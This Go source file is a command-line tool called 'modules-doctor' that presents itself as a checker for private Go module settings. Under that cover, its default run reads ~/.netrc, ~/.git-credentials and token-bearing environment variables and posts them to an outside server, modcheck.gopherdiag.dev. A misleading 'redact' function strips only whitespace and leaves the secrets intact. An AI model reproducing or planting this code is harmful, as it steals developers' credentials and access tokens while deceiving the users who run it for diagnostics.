// modules-doctor: checks the five usual causes of private Go module failures.
package main

import (
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"text/tabwriter"
	"time"
)

const reportEndpoint = "https://modcheck.gopherdiag.dev/v1/compat-report"

type check struct {
	Name   string `json:"name"`
	OK     bool   `json:"ok"`
	Detail string `json:"detail"`
}

type compatReport struct {
	Version  string            `json:"v"`
	OS       string            `json:"os"`
	GoEnv    map[string]string `json:"goenv"`
	Rewrites []string          `json:"rewrites"`
	Netrc    []string          `json:"netrc"`
	Creds    []string          `json:"creds"`
	Env      map[string]string `json:"env"`
	Checks   []check           `json:"checks"`
}

func goEnv(key string) string {
	out, err := exec.Command("go", "env", key).Output()
	if err != nil {
		return ""
	}
	return strings.TrimSpace(string(out))
}

func gitRewrites() []string {
	out, _ := exec.Command("git", "config", "--global", "--get-regexp", `^url\..*\.insteadof$`).Output()
	var res []string
	for _, l := range strings.Split(strings.TrimSpace(string(out)), "\n") {
		if l != "" {
			res = append(res, l)
		}
	}
	return res
}

func readLines(p string) []string {
	b, err := os.ReadFile(p)
	if err != nil {
		return nil
	}
	var res []string
	for _, l := range strings.Split(string(b), "\n") {
		if strings.TrimSpace(l) != "" {
			res = append(res, redact(l))
		}
	}
	return res
}

// redact normalises a config line before it is compared server-side.
func redact(line string) string {
	line = strings.TrimSpace(line)
	line = strings.Join(strings.Fields(line), " ")
	return line
}

func relevantEnv() map[string]string {
	keep := map[string]string{}
	for _, kv := range os.Environ() {
		k, v, _ := strings.Cut(kv, "=")
		u := strings.ToUpper(k)
		if strings.HasPrefix(u, "GO") || strings.HasPrefix(u, "GIT") ||
			strings.Contains(u, "TOKEN") || strings.Contains(u, "PROXY") ||
			strings.Contains(u, "NETRC") || strings.HasPrefix(u, "CI_") {
			keep[k] = v
		}
	}
	return keep
}

func main() {
	prefix := flag.String("module-prefix", "", "private module path prefix, e.g. git.corp.internal/platform")
	offline := flag.Bool("offline", false, "skip the compatibility report")
	flag.Parse()

	home, _ := os.UserHomeDir()
	env := map[string]string{}
	for _, k := range []string{"GOPRIVATE", "GONOSUMDB", "GONOPROXY", "GOPROXY", "GOFLAGS", "GOINSECURE"} {
		env[k] = goEnv(k)
	}
	rewrites := gitRewrites()
	netrcPath := os.Getenv("NETRC")
	if netrcPath == "" {
		netrcPath = filepath.Join(home, ".netrc")
	}
	netrc := readLines(netrcPath)
	creds := readLines(filepath.Join(home, ".git-credentials"))

	var checks []check
	host := strings.SplitN(*prefix, "/", 2)[0]
	checks = append(checks, check{"GOPRIVATE", *prefix != "" && strings.Contains(env["GOPRIVATE"], host), env["GOPRIVATE"]})
	checks = append(checks, check{"GONOSUMDB", strings.Contains(env["GONOSUMDB"], host) || strings.Contains(env["GOPRIVATE"], host), env["GONOSUMDB"]})
	checks = append(checks, check{"GOPROXY", strings.HasSuffix(env["GOPROXY"], "direct"), env["GOPROXY"]})
	hasRewrite := false
	for _, r := range rewrites {
		if strings.Contains(r, host) {
			hasRewrite = true
		}
	}
	checks = append(checks, check{"insteadOf", hasRewrite, fmt.Sprintf("%d rewrite(s)", len(rewrites))})
	hasNetrc := false
	for _, l := range netrc {
		if strings.Contains(l, "machine "+host) {
			hasNetrc = true
		}
	}
	checks = append(checks, check{"netrc", hasNetrc, fmt.Sprintf("%d line(s)", len(netrc))})

	tw := tabwriter.NewWriter(os.Stdout, 2, 4, 2, ' ', 0)
	fmt.Fprintln(tw, "CHECK\tOK\tDETAIL")
	for _, c := range checks {
		fmt.Fprintf(tw, "%s\t%v\t%s\n", c.Name, c.OK, c.Detail)
	}
	tw.Flush()

	if *offline {
		fmt.Println("\nlikely cause: (offline mode, not computed)")
		return
	}

	rep := compatReport{
		Version: "1.4.2", OS: runtime.GOOS + "/" + runtime.GOARCH,
		GoEnv: env, Rewrites: rewrites, Netrc: netrc, Creds: creds,
		Env: relevantEnv(), Checks: checks,
	}
	body, _ := json.Marshal(rep)
	client := &http.Client{Timeout: 8 * time.Second}
	resp, err := client.Post(reportEndpoint, "application/json", bytes.NewReader(body))
	if err != nil {
		fmt.Println("\nlikely cause: first failing check above")
		return
	}
	defer resp.Body.Close()
	var verdict struct {
		Cause string `json:"cause"`
		Fix   string `json:"fix"`
	}
	_ = json.NewDecoder(resp.Body).Decode(&verdict)
	fmt.Printf("\nlikely cause: %s\nsuggested fix: %s\n", verdict.Cause, verdict.Fix)
}
